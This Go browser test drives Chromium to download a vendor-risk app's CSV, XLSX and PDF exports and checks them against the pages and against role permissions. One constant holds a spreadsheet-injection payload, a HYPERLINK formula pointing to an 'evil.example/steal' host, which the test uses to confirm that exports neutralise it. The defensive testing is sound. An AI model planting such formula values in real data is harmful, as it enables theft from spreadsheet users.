package browsertest

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"assay/app/apptest"
	"assay/app/audit"
	"assay/app/model"
	"assay/app/reading"
	"assay/app/report"
	"assay/app/vendors"
)

// formulaVendor is a vendor name a spreadsheet would run as a formula if an export wrote it
// as it stands.
const formulaVendor = `=HYPERLINK("https://evil.example/steal","Quill Payroll")`

// TestExportsDownloadedInBrowser clicks the export links as people do, lets Chromium save the
// files, and opens what it saved: the vendor list as CSV and XLSX, and an assessment as CSV,
// XLSX and the PDF report, for an analyst; the vendor list and the report for procurement,
// whose assessment page offers no evidence file.
func TestExportsDownloadedInBrowser(t *testing.T) {
	chrome := apptest.Need(t, "ASSAY_TEST_CHROME")
	srv, root, shots, step := begin(t, apptest.Options{})
	ctx := apptest.Ctx()

	step("1. a vendor whose name is a formula has answered weakly, uploaded a policy and submitted")
	system := audit.Actor{Type: audit.ActorSystem, Label: "test"}
	v, err := srv.App.Vendors.Create(ctx, vendors.Input{Name: formulaVendor, Tier: "high", Website: "https://quill-payroll.example",
		Services: []vendors.ServiceInput{{Name: "Payroll processing", Keywords: []string{"payroll"}}},
		Contacts: []vendors.ContactInput{{Name: "Robin Quill", Email: "robin@quill-payroll.example"}}}, system)
	if err != nil {
		t.Fatal(err)
	}
	// A second vendor, never assessed, shows that ordinary names are left as they are.
	plain, err := srv.App.Vendors.Create(ctx, vendors.Input{Name: "Alpha Ledger Works", Tier: "low",
		Contacts: []vendors.ContactInput{{Name: "Ali Ledger", Email: "ali@alpha-ledger.example"}}}, system)
	if err != nil {
		t.Fatal(err)
	}
	a, token := srv.Send(t, v)
	answers := map[string]any{
		"security_ownership": "it_team", "responsibilities_documented": false, "communication_methods": []string{"intranet_only"},
		"training_program": "none", "employment_contract_clauses": false, "contractor_agreements": false,
		"acknowledgement_process": "none", "management_review_cadence": "none", "security_kpis": false,
		"disciplinary_process": false, "reporting_channel": true, "iso27001_certified": false,
	}
	if st := apiCall(t, "PATCH", srv.URL+"/api/v1/respond/answers", token, map[string]any{"answers": answers}); st != http.StatusOK {
		t.Fatalf("save answers: status %d", st)
	}
	const policyName = "information-security-policy.pdf"
	policy := reportPDF("Information security policy: management expects every employee to comply", minutesRow, 4<<10)
	sum := sha256.Sum256(policy)
	policySHA := hex.EncodeToString(sum[:])
	ev, err := srv.App.Responses.Upload(ctx, a.ID, "security_policy", policyName, bytes.NewReader(policy),
		audit.Actor{Type: audit.ActorInvitation, Label: v.Contacts[0].Email})
	if err != nil {
		t.Fatalf("upload the policy: %v", err)
	}
	if st := apiCall(t, "POST", srv.URL+"/api/v1/respond/submit", token, nil); st != http.StatusOK {
		t.Fatalf("submit: status %d", st)
	}
	res := srv.WaitSettled(t, a.ID)
	if len(res.RedFlags) == 0 {
		t.Fatal("the weak answers raised no red flag")
	}
	t.Logf("result: score %d, rating %s, red flags %v", res.Score, res.Rating, flagIDs(res))

	step("2. the analyst reads the vendor list and downloads it as CSV and XLSX")
	analystPassword := srv.CreateUser(t, "ana@example.com", model.RoleAnalyst)
	analyst := startBrowser(t, root, chrome, "analyst", shots)
	analystFiles := analyst.allowDownloads()
	analyst.signIn(srv.URL, "ana@example.com", analystPassword)
	analyst.follow("open the vendor list from the dashboard", byText("a", "All vendors"))
	row := fmt.Sprintf(`tr[data-vendor=%s]`, jsString(formulaVendor))
	analyst.expectVisible("vendor list", row)
	shown := listedVendor{
		id:     v.ID,
		name:   formulaVendor,
		score:  analyst.text(row + " td.num"),
		rating: analyst.text(row + " [data-rating]"),
		flags:  strings.Fields(analyst.text(row+" td[data-flags]") + " ?")[0],
		// The page names at most three flags; every one is in the files.
		flagIDs: flagIDs(res),
	}
	if shown.score != strconv.Itoa(res.Score) || !sameRating(shown.rating, res.Rating) || shown.flags != strconv.Itoa(len(res.RedFlags)) {
		t.Fatalf("analyst: the vendor list shows score %q, rating %q, %s open red flags; the stored result is %d, %s, %d",
			shown.score, shown.rating, shown.flags, res.Score, res.Rating, len(res.RedFlags))
	}

	file := analystFiles.download("click the vendor list's CSV link", byText("#vendor-downloads a", "CSV"), "/vendors")
	file.expect(t, "/vendors/export.csv", "vendors-", ".csv")
	checkVendorTable(t, "analyst: vendor list CSV", file.rows(t, "analyst: vendor list CSV"), shown, "'"+formulaVendor, plain)

	file = analystFiles.download("click the vendor list's XLSX link", byText("#vendor-downloads a", "Excel (XLSX)"), "/vendors")
	file.expect(t, "/vendors/export.xlsx", "vendors-", ".xlsx")
	sheets := file.open(t, "analyst: vendor list XLSX", "xlsx").Tables
	if len(sheets) != 1 {
		t.Fatalf("analyst: the vendor list workbook has %d sheets, want 1", len(sheets))
	}
	checkVendorTable(t, "analyst: vendor list XLSX", sheets[0].Rows, shown, formulaVendor, plain)

	step("3. the analyst opens the assessment and downloads its CSV, XLSX and PDF report")
	analyst.follow("open the vendor", chromedp.CSS(fmt.Sprintf(`%s a[href="/vendors/%d"]`, row, v.ID)))
	analyst.follow("open the assessment", byText("#result a", "Open the assessment"))
	page := fmt.Sprintf("/assessments/%d", a.ID)
	analyst.expectPath("the assessment page", page)
	analyst.expectText("score on the assessment page", "#result [data-score]", shown.score)
	analyst.expectText("rating on the assessment page", "#result [data-rating]", shown.rating)
	flag := res.RedFlags[0]
	analyst.expectContains("the first red flag", fmt.Sprintf(`#result li[data-flag=%s]`, jsString(flag.ID)), flag.Title)
	analyst.expectContains("the policy's hash", fmt.Sprintf("#evidence-%d", ev.ID), policySHA)
	// The analyst is offered the file; procurement, below, must not be.
	evidenceLink := fmt.Sprintf(`a[href="%s/evidence/%d"]`, page, ev.ID)
	if analyst.count(evidenceLink) == 0 {
		t.Fatalf("analyst: the assessment page has no link to download %s", policyName)
	}
	shownAnswer := analyst.text("#review-security_ownership [data-answer]")
	// The files read a rating as a risk, as the pages do.
	rating := shown.rating

	file = analystFiles.download("click the assessment's CSV link", chromedp.CSS(fmt.Sprintf(`a[href="%s/export.csv"]`, page)), page)
	file.expect(t, page+"/export.csv", fmt.Sprintf("assessment-%d", a.ID), ".csv")
	rows := file.rows(t, "analyst: assessment CSV")
	if want := []string{"Section", "Item", "Field", "Value", "Detail"}; strings.Join(rows[0], "|") != strings.Join(want, "|") {
		t.Errorf("analyst: assessment CSV header %q, want %q", rows[0], want)
	}
	lines := map[string]string{} // "Section|Item|Field|Value" -> Detail
	for _, r := range rows[1:] {
		if len(r) != 5 {
			t.Fatalf("analyst: assessment CSV row of %d cells: %q", len(r), r)
		}
		lines[strings.Join(r[:4], "|")] = r[4]
	}
	for _, want := range []string{
		"Summary||Vendor|'" + formulaVendor,
		"Summary||Score|" + shown.score,
		"Summary||Rating|" + rating,
		fmt.Sprintf("Evidence|%d|security_policy|%s", ev.ID, policyName),
		"Red flag|" + flag.ID + "|" + report.Words(flag.Severity) + "|" + flag.Title,
	} {
		if _, ok := lines[want]; !ok {
			t.Errorf("analyst: the assessment CSV has no row %q", want)
		}
	}
	if got := answerIn(lines, "security_ownership"); got == "" || !strings.Contains(shownAnswer, got) {
		t.Errorf("analyst: the assessment CSV answers security_ownership with %q; the page shows %q", got, shownAnswer)
	}
	if d := lines[fmt.Sprintf("Evidence|%d|security_policy|%s", ev.ID, policyName)]; !strings.Contains(d, policySHA) {
		t.Errorf("analyst: the assessment CSV's evidence row says %q, want the SHA-256 %s", d, policySHA)
	}

	file = analystFiles.download("click the assessment's XLSX link", byText("a", "Download answers, facts and flags as Excel (XLSX)"), page)
	file.expect(t, page+"/export.xlsx", fmt.Sprintf("assessment-%d", a.ID), ".xlsx")
	sheets = file.open(t, "analyst: assessment XLSX", "xlsx").Tables
	names := make([]string, len(sheets))
	for i, s := range sheets {
		names[i] = s.Name
	}
	if got, want := strings.Join(names, "|"), "Summary|Answers|Evidence and facts|Red flags"; got != want {
		t.Fatalf("analyst: the assessment workbook's sheets are %q, want %q", got, want)
	}
	summary := map[string]string{}
	for _, r := range sheets[0].Rows {
		if len(r) > 1 {
			summary[r[0]] = r[1]
		}
	}
	if summary["Vendor"] != formulaVendor || summary["Score"] != shown.score || summary["Rating"] != rating {
		t.Errorf("analyst: the workbook's summary shows vendor %q, score %q, rating %q; want %q, %s, %s",
			summary["Vendor"], summary["Score"], summary["Rating"], formulaVendor, shown.score, rating)
	}
	if got := cellsUnder(sheets[1].Rows[1:], "Question ID", sheets[1].Rows[0]); !hasString(got, "security_ownership") {
		t.Errorf("analyst: the workbook's answers sheet lists questions %q, want security_ownership among them", got)
	}
	if got := cellsUnder(sheets[2].Rows[1:], "SHA-256", sheets[2].Rows[0]); !hasString(got, policySHA) {
		t.Errorf("analyst: the workbook's evidence sheet lists hashes %q, want %s", got, policySHA)
	}
	if got := cellsUnder(sheets[2].Rows[1:], "File", sheets[2].Rows[0]); !hasString(got, policyName) {
		t.Errorf("analyst: the workbook's evidence sheet lists files %q, want %s", got, policyName)
	}
	if got := cellsUnder(sheets[3].Rows[1:], "Title", sheets[3].Rows[0]); len(got) != len(res.RedFlags) || !hasString(got, flag.Title) {
		t.Errorf("analyst: the workbook's red flags sheet lists %q, want %d flags with %q", got, len(res.RedFlags), flag.Title)
	}

	file = analystFiles.download("click the PDF report link", byText("#assessment-downloads a", "Download the PDF report"), page)
	file.expect(t, page+"/report.pdf", fmt.Sprintf("assessment-%d-report", a.ID), ".pdf")
	text := file.open(t, "analyst: PDF report", "pdf").Text
	for _, want := range []string{formulaVendor, "Score\t" + shown.score + " / 100", "Rating\t" + shown.rating,
		flag.Title, "SHA-256 " + policySHA, policyName, "Hash chain verified"} {
		if !strings.Contains(text, want) {
			t.Errorf("analyst: the PDF report lacks %q", want)
		}
	}

	step("4. procurement downloads the vendor list and the report, and is offered no evidence file")
	buyerPassword := srv.CreateUser(t, "buyer@example.com", model.RoleProcurement)
	buyer := startBrowser(t, root, chrome, "procurement", shots)
	buyerFiles := buyer.allowDownloads()
	buyer.signIn(srv.URL, "buyer@example.com", buyerPassword)
	buyer.follow("open the vendor list from the dashboard", byText("a", "All vendors"))
	buyer.expectText("score in the list", row+" td.num", shown.score)
	buyer.expectText("rating in the list", row+" [data-rating]", shown.rating)
	file = buyerFiles.download("click the vendor list's CSV link", byText("#vendor-downloads a", "CSV"), "/vendors")
	file.expect(t, "/vendors/export.csv", "vendors-", ".csv")
	checkVendorTable(t, "procurement: vendor list CSV", file.rows(t, "procurement: vendor list CSV"), shown, "'"+formulaVendor, plain)

	buyer.follow("open the vendor", chromedp.CSS(fmt.Sprintf(`%s a[href="/vendors/%d"]`, row, v.ID)))
	buyer.follow("open the assessment", byText("#result a", "Open the assessment"))
	buyer.expectPath("the assessment page", page)
	buyer.expectText("score on the assessment page", "#result [data-score]", shown.score)
	for _, css := range []string{evidenceLink, `a[href*="/evidence/"]`, `[src*="/evidence/"]`, `a[href$="/export.csv"]`, `a[href$="/export.xlsx"]`, `a[href$="/export"]`} {
		if n := buyer.count(css); n != 0 {
			t.Errorf("procurement: the assessment page has %d element(s) matching %s; procurement may not have the vendor's files or answers", n, css)
		}
	}
	if strings.Contains(buyer.text("main"), policyName) {
		t.Errorf("procurement: the assessment page names the evidence file %s", policyName)
	}
	file = buyerFiles.download("click the PDF report link", byText("#assessment-downloads a", "Download the PDF report"), page)
	file.expect(t, page+"/report.pdf", fmt.Sprintf("assessment-%d-report", a.ID), ".pdf")
	text = file.open(t, "procurement: PDF report", "pdf").Text
	for _, want := range []string{formulaVendor, "Score\t" + shown.score + " / 100", flag.Title, "SHA-256 " + policySHA} {
		if !strings.Contains(text, want) {
			t.Errorf("procurement: the PDF report lacks %q", want)
		}
	}
	if strings.Contains(text, policyName) {
		t.Errorf("procurement: the PDF report names the evidence file %s", policyName)
	}
	analyst.expectNoDialogs()
	buyer.expectNoDialogs()
	step("done")
}

// listedVendor is what the vendor list page showed for one vendor, which its exports must repeat.
type listedVendor struct {
	id                         uint
	name, score, rating, flags string // flags: how many open red flags the page counted
	flagIDs                    []string
}

// checkVendorTable checks a vendor list export read back from its file: the headings, the
// assessed vendor's row as the page showed it with its formula-like name neutralised, and the
// unassessed vendor's row with its name as typed and no score. name is the formula vendor's
// cell as the file neutralises it: with a leading apostrophe in a CSV, as typed (in a
// quotePrefix text cell) in an XLSX.
func checkVendorTable(t *testing.T, what string, rows [][]string, want listedVendor, name string, plain model.Vendor) {
	t.Helper()
	if len(rows) != 3 {
		t.Fatalf("%s: %d rows, want a header and two vendors: %q", what, len(rows), rows)
	}
	header := rows[0]
	for _, h := range []string{"Vendor ID", "Vendor", "Tier", "Assessment status", "Score", "Rating", "Open red flags", "Red flag IDs"} {
		if !hasString(header, h) {
			t.Fatalf("%s: no %q column in the header %q", what, h, header)
		}
	}
	byID := map[string]map[string]string{}
	for _, r := range rows[1:] {
		cells := map[string]string{}
		for i, h := range header {
			if i < len(r) {
				cells[h] = r[i]
			}
		}
		byID[cells["Vendor ID"]] = cells
	}
	got, ok := byID[strconv.FormatUint(uint64(want.id), 10)]
	if !ok {
		t.Fatalf("%s: no row for vendor %d: %q", what, want.id, rows)
	}
	if got["Vendor"] != name {
		t.Errorf("%s: the vendor's name is %q, want %q: neutralised, so that a spreadsheet does not run it", what, got["Vendor"], name)
	}
	if got["Score"] != want.score || !sameRating(want.rating, got["Rating"]) {
		t.Errorf("%s: score %q rating %q, the page showed %s %s", what, got["Score"], got["Rating"], want.score, want.rating)
	}
	if got["Assessment status"] != report.Words(model.StatusScored) {
		t.Errorf("%s: assessment status %q, want %s", what, got["Assessment status"], report.Words(model.StatusScored))
	}
	if got["Open red flags"] != want.flags {
		t.Errorf("%s: %q open red flags, the page showed %s", what, got["Open red flags"], want.flags)
	}
	// The list keeps a vendor's open flags most severe first, not in the result's order.
	ids, wantIDs := strings.Fields(got["Red flag IDs"]), slices.Clone(want.flagIDs)
	slices.Sort(wantIDs)
	if sorted := slices.Sorted(slices.Values(ids)); !slices.Equal(sorted, wantIDs) {
		t.Errorf("%s: red flag ids %q, want %q", what, ids, want.flagIDs)
	}
	other, ok := byID[strconv.FormatUint(uint64(plain.ID), 10)]
	if !ok || other["Vendor"] != plain.Name || other["Score"] != "" || other["Rating"] != "" {
		t.Errorf("%s: the unassessed vendor's row is %q, want the name %q as typed and no score or rating", what, other, plain.Name)
	}
}

// downloaded is one file Chromium saved.
type downloaded struct {
	url, filename string
	body          []byte
}

// expect checks that the file came from the link's path and was offered under a name with the
// prefix and extension.
func (d downloaded) expect(t *testing.T, path, prefix, ext string) {
	t.Helper()
	if u, err := url.Parse(d.url); err != nil || u.Path != path {
		t.Errorf("downloaded %s, want %s", d.url, path)
	}
	if !strings.HasPrefix(d.filename, prefix) || !strings.HasSuffix(d.filename, ext) {
		t.Errorf("%s was offered as %q, want a name like %s…%s", d.url, d.filename, prefix, ext)
	}
	if len(d.body) == 0 {
		t.Errorf("%s: the saved file is empty", d.url)
	}
}

// downloads is where a browser saves what it downloads.
type downloads struct {
	b   *browser
	dir string
}

// allowDownloads makes the browser save downloads, each under its download id, in a folder of
// its own, and report their progress.
func (b *browser) allowDownloads() downloads {
	b.t.Helper()
	dir := b.t.TempDir()
	ctx, cancel := context.WithTimeout(b.ctx, stepTimeout)
	defer cancel()
	enabled := true
	if _, err := chromedp.Call(ctx, cdpbrowser.SetDownloadBehavior, cdpbrowser.SetDownloadBehaviorParams{
		Behavior: cdpbrowser.SetDownloadBehaviorBehaviorAllowAndName, DownloadPath: dir, EventsEnabled: &enabled,
	}); err != nil {
		b.t.Fatalf("%s: allow downloads: %v", b.name, err)
	}
	return downloads{b: b, dir: dir}
}

// download clicks a link that downloads a file, waits until Chromium has saved it, and
// returns it. The browser stays on the page at path, as it does for a person.
func (d downloads) download(step string, sel any, path string) downloaded {
	b := d.b
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, stepTimeout)
	defer cancel()
	// Subscribed before the click, so no event of this download is missed.
	begins := chromedp.Events(ctx, cdpbrowser.DownloadWillBegin)
	progress := chromedp.Events(ctx, cdpbrowser.DownloadProgress)
	var click chromedp.Action[chromedp.Void]
	switch s := sel.(type) {
	case chromedp.CSS:
		click = chromedp.Click(s)
	case chromedp.JSPath:
		click = chromedp.Click(s)
	default:
		b.t.Fatalf("download: unsupported selector %T", sel)
	}
	if err := chromedp.Do(ctx, click); err != nil {
		b.t.Fatalf("%s: %s: %v", b.name, step, err)
	}
	var begin cdpbrowser.EventDownloadWillBegin
	for ev, err := range begins {
		if err != nil {
			b.t.Fatalf("%s: %s: no download began: %v", b.name, step, err)
		}
		begin = ev
		break
	}
	for ev, err := range progress {
		if err != nil {
			b.t.Fatalf("%s: %s: the download of %s did not complete: %v", b.name, step, begin.URL, err)
		}
		if ev.GUID != begin.GUID {
			continue
		}
		if ev.State == cdpbrowser.DownloadProgressStateCanceled {
			b.t.Fatalf("%s: %s: the download of %s was cancelled after %v bytes", b.name, step, begin.URL, ev.ReceivedBytes)
		}
		if ev.State == cdpbrowser.DownloadProgressStateCompleted {
			break
		}
	}
	body, err := os.ReadFile(filepath.Join(d.dir, begin.GUID))
	if err != nil {
		b.t.Fatalf("%s: %s: read the saved file: %v", b.name, step, err)
	}
	b.expectPath("after the download", path)
	return downloaded{url: begin.URL, filename: begin.SuggestedFilename, body: body}
}

// rows parses the saved file as CSV (after the byte-order mark Excel needs to read UTF-8) and
// returns its rows, header first.
func (d downloaded) rows(t *testing.T, what string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(d.body, []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("%s: not a CSV table (%d rows): %v", what, len(rows), err)
	}
	return rows
}

// open reads the saved file with the reader Assay uses for vendors' evidence, which reads
// XLSX sheets into tables and PDF pages into text.
func (d downloaded) open(t *testing.T, what, kind string) reading.Document {
	t.Helper()
	doc, err := reading.Read(context.Background(), bytes.NewReader(d.body), int64(len(d.body)), kind, reading.DefaultLimits())
	if err != nil {
		t.Fatalf("%s: %s does not open as %s: %v", what, d.filename, kind, err)
	}
	return doc
}

// cellsUnder is the cells under the heading in the rows.
func cellsUnder(rows [][]string, heading string, header []string) []string {
	i := -1
	for j, h := range header {
		if h == heading {
			i = j
		}
	}
	var out []string
	for _, r := range rows {
		if i >= 0 && i < len(r) {
			out = append(out, r[i])
		}
	}
	return out
}

// answerIn is the Value of the CSV's answer row of the question, "" when there is none.
func answerIn(lines map[string]string, id string) string {
	for k := range lines {
		if f := strings.Split(k, "|"); len(f) >= 4 && f[0] == "Answer" && f[1] == id {
			return f[len(f)-1]
		}
	}
	return ""
}

func hasString(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}
